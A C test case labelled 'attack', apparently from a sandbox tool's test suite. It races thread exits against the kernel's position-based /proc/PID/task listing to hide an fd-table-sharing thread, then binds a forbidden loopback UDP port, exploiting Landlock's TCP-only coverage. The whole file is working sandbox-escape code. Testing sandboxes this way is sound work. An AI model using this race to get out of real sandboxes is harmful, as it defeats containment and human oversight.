// kind: attack
// The sharer of the fd table is the last of many threads. Some end while they are listed, and the kernel, which goes on by
// position, leaves others out.
#include "probe.h"
#include <linux/futex.h>

enum { PER_READ = 1022, THREADS = PER_READ + 5 }; /* entries of /proc/PID/task in 32 KiB */

static volatile int created, end_some;
static volatile struct { int caller, over; } *state;

static void *decoy(void *number)
{
	long i = (long)number;
	MUST(unshare(CLONE_FILES));
	__sync_fetch_and_add(&created, 1);
	if (!(i >= 5 && i < 25) && i < PER_READ - 3)
		for (;;)
			pause();
	while (!end_some)
		syscall(SYS_futex, &end_some, FUTEX_WAIT, 0, NULL, NULL, 0);
	return NULL;
}

static void *sharer(void *sockets)
{
	const struct swap *s = sockets;
	pid_t pid = MUST(syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0));
	if (pid == 0) {
		union addr a = loopback(AF_INET, FORBIDDEN);
		while (!state->over) {
			bind(SWAPPED, &a.any, sizeof a.in);
			no_harm(s->inet_fd);
		}
		_exit(0);
	}
	state->caller = pid;
	while (!state->over)
		swap_once(s);
	return NULL;
}

static void attempt(void)
{
	/* UDP, since Landlock, the command line's second lock, knows TCP only. */
	struct swap sockets = {sock(AF_UNIX, SOCK_DGRAM, 0), sock(AF_INET, SOCK_DGRAM, 0)};
	MUST(dup2(sockets.unix_fd, SWAPPED));
	for (long i = 1; i < THREADS; i++)
		thread(decoy, (void *)i);
	while (created < THREADS - 1)
		usleep(200);
	thread(sharer, &sockets);
	while (!state->caller)
		usleep(200);
	MUST(unshare(CLONE_FILES));
	usleep(1000 + rand() % 5000);
	end_some = 1;
	syscall(SYS_futex, &end_some, FUTEX_WAKE, 1 << 30, NULL, NULL, 0);
	usleep(10000);
	state->over = 1;
	join(state->caller);
	_exit(0);
}

int main(void)
{
	state = shared(sizeof *state);
	FOR_A_WHILE {
		state->caller = state->over = 0;
		int seed = rand();
		pid_t pid = child();
		if (pid == 0) {
			srand(seed);
			attempt();
		}
		join(pid);
	}
	return 0;
}
